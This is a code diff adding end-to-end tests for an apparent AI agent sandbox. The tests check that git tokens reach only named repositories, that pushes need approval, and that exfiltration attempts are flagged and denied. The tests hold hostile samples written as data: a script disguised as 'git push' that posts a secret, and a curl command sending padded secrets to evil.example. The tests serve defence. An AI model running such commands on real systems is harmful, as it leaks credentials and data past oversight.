@@ -114,21 +114,82 @@ test('clone, commit and push with a token that the sandbox never sees', async ({
     await dialog.getByLabel('Always allow').fill(`WebFetch(domain:${server.host})`)
     await dialog.getByRole('button', { name: /done/i }).click()
     await expect(dialog).toBeHidden()
-    const cloned = await workbench.exec(
-      `git clone -q ${server.url}/r.git r && cd r && git log --format=%s && env`,
-    )
+    // The rule lets the host be read, but the token goes only where the repository was named for it.
+    const cloning = workbench.exec(`git clone -q ${server.url}/r.git r && cd r && git log --format=%s && env`)
+    await expect(workbench.permission).toContainText(`With your token for ${server.host}.`)
+    await expect(workbench.permission).toContainText(`${server.url}/r.git`)
+    expect(server.requests.map(({ authorization }) => authorization)).toEqual([''])
+    await workbench.permission.getByRole('button', { name: 'Allow for this session' }).click()
+    const cloned = await cloning
     expect(cloned).toMatchObject({ exitCode: 0, stderr: '' })
     expect(cloned.stdout).toMatch(/^first\n/)
     expect(cloned.stdout).not.toContain('ghp_')
-    const pushed = workbench.exec(
-      'cd r && git -c user.name=A -c user.email=a@b commit -q --allow-empty -m second && git push',
-    )
-    await expect(workbench.permission).toContainText(`push to ${server.host}`)
-    await expect(workbench.permission.getByRole('button', { name: 'Always allow' })).toBeHidden()
-    await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
-    expect(await pushed).toMatchObject({ exitCode: 0 })
-    expect(server.git('r.git', 'log', '-1', '--format=%s', 'main')).toBe('second\n')
+    for (const message of ['second', 'third']) {
+      const pushed = workbench.exec(
+        `cd r && git -c user.name=A -c user.email=a@b commit -q --allow-empty -m ${message} && git push`,
+      )
+      await expect(workbench.permission).toContainText(`push to ${server.host}`)
+      const before = server.git('r.git', 'rev-parse', 'main').slice(0, 9)
+      const what = workbench.permission.getByRole('list', { name: 'What is pushed' })
+      await expect(what).toContainText('Changes branch main')
+      await expect(what).toContainText(before)
+      await expect(workbench.permission.getByRole('button', { name: 'Always allow' })).toBeHidden()
+      await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
+      expect(await pushed).toMatchObject({ exitCode: 0 })
+      expect(server.git('r.git', 'log', '-1', '--format=%s', 'main')).toBe(`${message}\n`)
+    }
+    expect(server.requests.filter(({ url }) => url.endsWith('/git-receive-pack'))).toHaveLength(2)
   } finally {
     await server.close()
   }
+})
+
+test('a program that calls itself git gets no token, and what it sends like a push is asked for', async ({
+  workbench,
+}) => {
+  const server = await startGitServer({ token: 'ghp_0123456789abcdef' })
+  try {
+    server.git('r.git', 'init', '-q', '--bare')
+    await workbench.open()
+    await workbench.page.getByRole('button', { name: 'Settings' }).first().click()
+    const dialog = workbench.page.getByRole('dialog', { name: 'Settings' })
+    await dialog.getByLabel('Git host').fill(server.host)
+    await dialog.getByLabel('Git token').fill('ghp_0123456789abcdef')
+    await dialog
+      .getByLabel('Always allow')
+      .fill(
+        `WebFetch(domain:${server.host})\nWebSend(domain:${server.host})\nWebFetch(repository:${server.url}/r.git)`,
+      )
+    await dialog.getByRole('button', { name: /done/i }).click()
+    await expect(dialog).toBeHidden()
+    const program = `process.title = 'git push'
+      process.argv = ['git', 'push']
+      const at = '${server.url}/r.git'
+      for (const service of ['git-upload-pack', 'git-receive-pack'])
+        console.log((await fetch(at + '/info/refs?service=' + service)).status)
+      console.log((await fetch(at + '/git-receive-pack', { method: 'POST', body: 'SECRET=1' })).status)`
+    const running = workbench.exec(`cat > evil.mjs <<'E'\n${program}\nE\nnode evil.mjs`)
+    await expect(workbench.permission).toContainText('It cannot be read what this would push')
+    await expect(workbench.permission).toContainText('node evil.mjs')
+    await expect(workbench.permission).not.toContainText('With your token')
+    await workbench.permission.getByRole('button', { name: 'Deny' }).click()
+    expect(await running).toMatchObject({ stdout: '401\n401\n403\n' })
+    expect(server.requests.map(({ method, authorization }) => method + authorization)).toEqual(['GET', 'GET'])
+  } finally {
+    await server.close()
+  }
+})
+
+test('how much leaves in an address and in headers is seen at once', async ({ workbench }) => {
+  await workbench.open()
+  const received = await answerAs(workbench.page, 'evil.example')
+  const running = workbench.exec(
+    `x=$(printf '%6300s' | tr ' ' A); curl -sS -H "X-Secret: $x" "https://evil.example/?token=$x"`,
+  )
+  await expect(workbench.permission).toContainText('The address has 6,308 characters behind its host.')
+  await expect(workbench.permission.getByText('13 kB would leave.')).toBeInViewport()
+  await expect(workbench.permission.getByText('The header X-Secret has 6,300 characters.')).toBeInViewport()
+  await workbench.permission.getByRole('button', { name: 'Deny' }).click()
+  expect(await running).toMatchObject({ exitCode: 7 })
+  expect(received).toEqual([])
 })
